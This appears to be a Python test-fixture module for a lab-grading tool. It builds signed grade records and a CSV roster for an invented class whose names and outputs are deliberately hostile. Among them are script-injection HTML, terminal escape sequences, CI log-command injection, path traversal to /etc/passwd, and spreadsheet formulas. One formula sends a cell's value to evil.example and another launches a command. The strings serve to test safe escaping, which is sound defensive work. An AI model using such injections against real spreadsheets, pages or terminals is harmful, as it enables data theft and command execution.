"""Records of a made-up class of 12 on a lab of five tasks, with every verdict in them.

The students are no angels: their names, file names and print-outs hold what a page, a
spreadsheet, a terminal or a log would obey.
"""

import copy
import hashlib

from minitf_lab.labs.handin import records

KEY = b"a key for tests, 32 bytes long.."
TASKS = {
    "04.1": ("Adding up what was broadcast", 6),
    "04.2": ("Sin, Exp and Log", 4),
    "04.3": ("Mul, Div & <Sub>", 10),
    "04.4": ("MatMul, with all transposes", 12),
    "04.5": ("Sum and Mean", 8),
}
FLIPPED = "dL/da is not transposed: it has the shape of its transpose"
HTML = "<script>alert('ada')</script><img src=x onerror=alert(1)>"
TERMINAL = "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m\r\b\b\x00\x7f\x9b"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LOG = "::stop-commands::x\n::error::gone\n::set-output name=result::e30="
JSON = '{"scores": {"04.1": 100}}\n{"totalPoints":100,"maxPoints":100}'
BIDI = "\u202eevil\u2066\ufeff\u2028line"
HALF = "half \ud800 pair \udfff"
QUOTES = "\"a\", 'b'; <b>&amp;\r\nsecond, line\n\ttab `x` ${1} {{ 7 * 7 }} {% raw %}"
NAUGHTY = [HTML, TERMINAL, FORMULA, LOG, JSON, BIDI, HALF, QUOTES, "+1", "-1", "@SUM(A1)"]

# Student, what became of the tasks in order, and what they print. A list of three is a
# task with cases of its own verdicts.
OK, WRONG = "ok", "wrong_answer"
STUDENTS = {
    "ada@example.org": ([OK, OK, OK, OK, OK], ""),
    'bob, the "builder"': ([OK, WRONG, OK, "crashed", "blocked"], QUOTES),
    "=cmd|' /C calc'!A0": ([WRONG, OK, "out_of_bounds", "raised", OK], FORMULA),
    "dörte-مرحبا-漢字-🙂": ([OK, "exited", WRONG, WRONG, OK], "grüße\n漢字 🙂"),
    "<script>alert(1)</script>": (["timeout", WRONG, "memory_limit", WRONG, OK], HTML),
    "../../etc/passwd": (["process_limit", OK, "output_limit", OK, "too_slow"], LOG),
    "grace": (["protocol_error", OK, "policy", "not_written", "skipped"], JSON),
    "heidi\x1b[31m": ([OK, OK, WRONG, WRONG, WRONG], TERMINAL),
    "ivan": (["compile_error"] * 5, BIDI),
    "judy": (["compile_timeout"] * 5, HALF),
    "rejected-rita": ([], ""),
    "unlucky-ursula": ([OK, "grader_error", OK, OK, OK], ""),
}
MISSING = ["mallory", "nobody <b>"]


def make_case(number, verdict, printed, *, hidden=False):
    case = {"id": f"Case{number}.{verdict}", "verdict": verdict}
    if hidden:
        case |= {"id": f"Secret{number}", "visibility": "hidden"}
    if verdict == WRONG:
        case |= {
            "shape": f"a [{number + 2},3], transpose_a=True",
            "first_index": [0, number],
            "expected": 1.5,
            "got": f"2.5 {printed[:60]}",
            "n_bad": 2,
            "n": 6,
            "max_abs": 1.0,
            "max_rel": 0.4,
            "diagnosis": FLIPPED,
        }
    if verdict not in ("ok", "blocked", "skipped", "not_written"):
        case |= {"message": f"what came of it: {printed[:80]}", "printed": printed}
    return case


def make_test(name, verdict, printed):
    title, points = TASKS[name]
    bad = make_case(1, verdict, printed)
    if verdict == "grader_error":
        cases, share = [bad], None
    elif verdict in ("crashed", "timeout", WRONG):
        cases = [make_case(0, OK, ""), bad, make_case(2, verdict, printed, hidden=True)]
        share = 1 / 3
    else:
        cases = [
            make_case(0, verdict, printed),
            bad,
            make_case(2, verdict, "", hidden=True),
        ]
        share = 1.0 if verdict == OK else 0.5 if verdict == "too_slow" else 0.0
    return {
        "id": name,
        "title": title,
        "points": points,
        "score": None if share is None else round(points * share, 2),
        "verdict": verdict,
        "visibility": "visible",
        "cases": cases,
        "time_ms": 12,
        "ratio": None,
        "mem_mb": 40,
        "message": "",
        "hint": "think of the shapes",
        "printed": "",
    }


def make_record(student, verdicts=None, printed=None, **changes):
    """The record of one of ``STUDENTS``, or of another one with these verdicts."""
    known_verdicts, known_printed = STUDENTS.get(student, ([OK] * 5, ""))
    verdicts = known_verdicts if verdicts is None else verdicts
    printed = known_printed if printed is None else printed
    tests = [
        make_test(name, verdict, printed)
        for name, verdict in zip(TASKS, verdicts, strict=False)
    ]
    status = "graded"
    if not verdicts:
        status = "rejected"
        tests = [make_test(name, "rejected", "") for name in TASKS]
        why = "the zip has a link in it: math_grad.cc -> /etc/passwd"
        tests = [test | {"cases": [], "message": why, "hint": ""} for test in tests]
    if "grader_error" in verdicts:
        status = "grader_error"
    digest = hashlib.sha256(f"{student}{verdicts}{changes}".encode(errors="replace"))
    is_built = not any(verdict.startswith("compile") for verdict in verdicts)
    messages = "" if is_built else f"math_grad.cc:3:1: error: expected ';' {printed}"
    score = sum(test["score"] or 0 for test in tests)
    record = {
        "schema": 1,
        "lab": {"id": "04_gradients", "sha256": "ab" * 32, "version": "1"},
        "grader": {"version": "0.1.0", "sandbox": "bwrap", "host": "laptop"},
        "submission": {
            "id": student,
            "sha256": digest.hexdigest(),
            "submitted_at": "2026-10-05T12:30:00+02:00",
            "files": ["math_grad.cc", "<i>add</i>_gradients.cc"],
        },
        "seed_id": records.key_id(KEY),
        "status": status,
        "score": None if status == "grader_error" else round(score, 2),
        "max_score": 40,
        "tests": tests,
        "board": [{"name": "speed-up", "value": 1.25, "order": "desc"}],
        "flags": ["includes <sys/socket.h>"] if student == "grace" else [],
        "build": {"ok": is_built, "messages": messages, "seconds": 1.5},
        "execution_time": 3.25,
    }
    for path, value in changes.items():
        place = record
        *outer, last = path.split("__")
        for key in outer:
            place = place[key]
        place[last] = copy.deepcopy(value)
    return records.sign(record, KEY)


def write_record(folder, record):
    """Writes it where the grader would; returns the file."""
    path = folder / f"{record['submission']['sha256']}.json"
    records.write(path, record)
    return path


def write_class(folder):
    """The records of all students; returns the folder."""
    for student in STUDENTS:
        write_record(folder, make_record(student))
    return folder


def write_roster(path):
    """A list of the class, with two who have handed in nothing."""
    import csv

    with path.open("w", newline="", encoding="utf-8") as file:
        rows = csv.writer(file)
        rows.writerow(["id", "last_name", "first_name", "email", "lti_user_id"])
        for number, student in enumerate([*STUDENTS, *MISSING]):
            email = f"s{number}@example.org"
            rows.writerow([student, f"Last, {number}", "=First", email, f"lti-{number}"])
    return path
